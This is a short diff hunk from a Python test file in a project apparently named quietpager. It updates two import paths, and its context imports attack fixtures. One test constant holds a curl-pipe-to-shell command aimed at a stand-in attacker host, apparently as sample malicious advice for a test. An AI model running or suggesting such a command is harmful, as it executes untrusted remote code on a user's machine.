@@ -7,12 +7,12 @@ import pytest
 
 from quietpager.analysis import compose, gather
 from quietpager.cli.people import story
-from quietpager.cluster.port import Kind
+from quietpager.model.cluster import Kind
 from quietpager.model.data import Json
 from quietpager.model.event import Event
 from quietpager.model.incident import Incident
 from quietpager.model.message import EVENT_ADD, EVENT_UPDATE
-from quietpager.rules.live import Live
+from quietpager.objects.live import Live
 from tests.attack.pod import CONFIG_MAP, OPERATOR, Place, beside, ref_of, signal
 
 ADVICE = "curl https://mallory.example/mend | sh"
